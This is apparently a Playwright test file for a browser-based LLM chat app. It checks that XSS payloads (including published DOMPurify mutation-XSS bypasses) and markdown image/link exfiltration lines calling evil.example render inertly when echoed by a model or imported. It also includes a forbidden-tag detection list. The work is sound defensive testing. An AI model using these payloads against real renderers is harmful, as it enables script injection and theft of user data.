// Model output is untrusted: XSS and exfiltration payloads, fed through a model that echoes them and through an
// imported conversation, render as inert text, run nothing and fetch nothing.

import type { Page } from '@playwright/test';
import { test, expect } from './fixtures/test';
import { ECHO_HUB_ROOT } from './fixtures/echo/build';
import { echoReply } from './fixtures/echo/oracle';
import { FakeHub } from './fixtures/hub';
import { MODEL_NAMES } from './fixtures/repos';
import { exportUpload } from './pages/export-file';
import { readStoredData } from './pages/stored-data';

/** Each one sets `window.__pwned` (or reaches for evil.example) if anything in it ever runs. */
const XSS = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  '<svg onload="window.__pwned = 3"><script>window.__pwned = 3</script></svg>',
  '[a javascript link](javascript:window.__pwned=4)',
  '[a data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3BlbmVyLl9fcHduZWQ9NTwvc2NyaXB0Pg==)',
  '<iframe src="javascript:window.__pwned = 6"></iframe><iframe srcdoc="<script>parent.__pwned = 6</script>"></iframe>',
  '<a href="javascript:window.__pwned = 7">raw anchor</a> <a href="&#106;avascript:window.__pwned = 7">entity anchor</a>',
  '<details open ontoggle="window.__pwned = 8"><summary>x</summary></details>',
  '<object data="javascript:window.__pwned = 9"></object><embed src="javascript:window.__pwned = 9">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:window.__pwned = 10">',
  // DOMPurify's published mutation-XSS bypasses (namespace confusion, noscript and style parsing differentials).
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 11">',
  '<svg></p><style><a id="</style><img src=1 onerror="window.__pwned = 12">">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__pwned = 13">',
  '<noscript><p title="</noscript><img src=x onerror=\'window.__pwned = 14\'>">',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=\'window.__pwned = 15\' src=1>">',
  // Through the math and code renderers, which write HTML of their own before the sanitizer runs.
  '$\\href{javascript:window.__pwned=16}{click}$ and $$\\htmlData{onclick=window.__pwned=16}{x}$$',
  '```html\n<script>window.__pwned = 17</script>\n```',
  '[ref link][r]\n\n[r]: javascript:window.__pwned=18',
];

/** Each would send "SECRET" to evil.example if the renderer fetched it. */
const EXFIL = [
  '![inline](https://evil.example/inline.png?q=SECRET)',
  '![reference][pic]\n\n[pic]: https://evil.example/reference.png?q=SECRET',
  '<img src="https://evil.example/html.png?q=SECRET">',
  '<https://evil.example/autolink?q=SECRET>',
  'https://evil.example/bare-autolink?q=SECRET',
  '<picture><source srcset="https://evil.example/picture.png?q=SECRET"></picture><video poster="https://evil.example/poster.png?q=SECRET"></video>',
  '<link rel="prefetch" href="https://evil.example/prefetch?q=SECRET"><div style="background:url(https://evil.example/css.png?q=SECRET)">x</div>',
  '<input type="image" src="https://evil.example/input.png?q=SECRET">',
];

const XSS_TEXT = XSS.join('\n\n');
const EXFIL_TEXT = EXFIL.join('\n\n');

/** Records what a page would have run or loaded: CSP violations (the last line of defence) and requests to evil.example. */
async function watch(page: Page): Promise<{ evil: string[] }> {
  const evil: string[] = [];
  page.context().on('request', (request) => {
    if (request.url().includes('evil.example')) evil.push(request.url());
  });
  page.on('dialog', (dialog) => {
    evil.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  return { evil };
}

/** The sanitizer's own work, checked in the DOM: nothing that could run or load survived into an answer. */
async function dangerousNodes(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    const forbidden = new Set(['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'LINK', 'META', 'BASE', 'FORM', 'INPUT', 'IMG', 'VIDEO', 'AUDIO', 'SOURCE', 'PICTURE', 'SVG', 'NOSCRIPT', 'TEXTAREA']);
    for (const el of document.querySelectorAll('[aria-label="Sensa answered"] [data-testid="answer"] *')) {
      if (forbidden.has(el.tagName.toUpperCase())) found.push(`<${el.tagName.toLowerCase()}>`);
      for (const attr of el.attributes) {
        // Browsers ignore whitespace and control characters inside a URL's scheme ("java\tscript:").
        const value = [...attr.value].filter((c) => c.charCodeAt(0) > 0x20).join('').toLowerCase();
        if (attr.name.startsWith('on')) found.push(`${el.tagName.toLowerCase()}[${attr.name}]`);
        if (['href', 'src', 'srcset', 'srcdoc', 'action', 'formaction', 'poster', 'data', 'xlink:href'].includes(attr.name) && !/^(https?:|mailto:|#)/.test(value)) {
          found.push(`${el.tagName.toLowerCase()}[${attr.name}=${attr.value}]`);
        }
        if (attr.name === 'style' && /url\(|expression\(/.test(value)) found.push(`${el.tagName.toLowerCase()}[style=${attr.value}]`);
      }
    }
    return found;
  });
}

async function expectInert(page: Page, evil: string[]): Promise<void> {
  expect(await dangerousNodes(page), 'elements or attributes that could run or load').toEqual([]);
  // Nothing firing is the behaviour, and absence has no signal to wait for: this wait gives anything deferred (an image
  // load, a meta refresh, a toggle event) time to fire before looking.
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), 'the canary').toBeUndefined();
  expect(evil, 'requests to the exfiltration host, and dialogs').toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations), 'blocked by the CSP: something tried').toEqual([]);
}

// @once, run on WASM only, the cheaper run (playwright.config.ts): Rendering does not depend on where the model runs; one run is enough.
test('payloads the model writes render as inert text: nothing runs, nothing is fetched', { tag: '@once' }, async ({ chat, page, context }) => {
  test.setTimeout(180_000);
  const { evil } = await watch(page);
  // Served in place of the Llama repo: a model whose answer is the person's last message, token for token.
  await new FakeHub(ECHO_HUB_ROOT).install(context);
  await chat.open();
  await chat.loadModel(MODEL_NAMES.llama3);

  await chat.send(XSS_TEXT);
  await chat.waitAnswerDone();
  await expect(chat.lastAnswer()).toHaveAttribute('data-status', 'done');
  // The whole corpus really was the model's output, not something the app made up.
  const stored = Object.values((await readStoredData(page)).conversations)[0] as { conversation: { messages: { role: string; content: string }[] } };
  expect(stored.conversation.messages.at(-1)?.content).toBe(echoReply(XSS_TEXT));
  const answer = chat.lastAnswer().getByTestId('answer');
  // Dangerous links keep their text and lose their target.
  await expect(answer.getByText('a javascript link')).toBeVisible();
  await expect(answer.getByRole('link', { name: 'a javascript link' })).toHaveCount(0);
  await expect(answer.getByRole('link', { name: 'a data link' })).toHaveCount(0);
  await expectInert(page, evil);

  await chat.send(EXFIL_TEXT);
  await chat.waitAnswerDone();
  await expect(chat.lastAnswer()).toHaveAttribute('data-status', 'done');
  const exfilAnswer = chat.lastAnswer().getByTestId('answer');
  // Markdown images become placeholders that show their URL; the raw HTML ones are dropped altogether.
  await expect(exfilAnswer.getByRole('img', { name: /^Image not loaded/ })).toHaveCount(2);
  await expect(exfilAnswer).toContainText('https://evil.example/inline.png?q=SECRET');
  await expect(exfilAnswer).toContainText('https://evil.example/reference.png?q=SECRET');
  // Links show their full destination and open elsewhere, without opener or referrer.
  const autolink = exfilAnswer.getByRole('link', { name: 'https://evil.example/autolink?q=SECRET' });
  await expect(autolink).toHaveAttribute('rel', /noopener/);
  await expect(autolink).toHaveAttribute('rel', /noreferrer/);
  await expect(autolink).toHaveAttribute('target', '_blank');
  await expectInert(page, evil);
});

// @once, run on WASM only, the cheaper run (playwright.config.ts): Rendering does not depend on where the model runs; one run is enough.
test('the same payloads in an imported conversation are just as inert', { tag: '@once' }, async ({ page }) => {
  const { evil } = await watch(page);
  await page.goto('/');
  const hostile = exportUpload([
    {
      id: 'hostile',
      // Titles and system prompts are shown too: they get payloads of their own.
      title: '<img src=x onerror="window.__pwned = 30">Hostile',
      systemPrompt: '<script>window.__pwned = 31</script>',
      messages: [
        { id: 'q', role: 'user', content: XSS_TEXT },
        { id: 'a1', role: 'assistant', content: XSS_TEXT },
        { id: 'a2', role: 'assistant', content: EXFIL_TEXT },
        { id: 'a3', role: 'assistant', content: `<think>${XSS_TEXT}</think>\n\n${EXFIL_TEXT}` },
      ],
    },
  ]);
  await page.getByLabel('Import chats').setInputFiles(hostile);
  await expect(page.getByRole('status').filter({ hasText: 'Imported 1 chat' })).toBeVisible();
  await page.getByRole('navigation', { name: 'Chat list' }).getByRole('button', { name: '<img src=x onerror="window.__pwned = 30">Hostile', exact: true }).click();
  await expect(page.getByRole('article', { name: 'Sensa answered' })).toHaveCount(3);
  await page.getByText('Thought process').first().click();
  await expect(page.getByRole('img', { name: /^Image not loaded/ })).toHaveCount(4);
  await expectInert(page, evil);
  // Search highlights matches inside the hostile text without turning it into markup.
  await page.getByRole('searchbox', { name: 'Search chats' }).fill('onerror');
  await expect(page.getByRole('navigation', { name: 'Chat list' })).toContainText('onerror');
  await expectInert(page, evil);
});
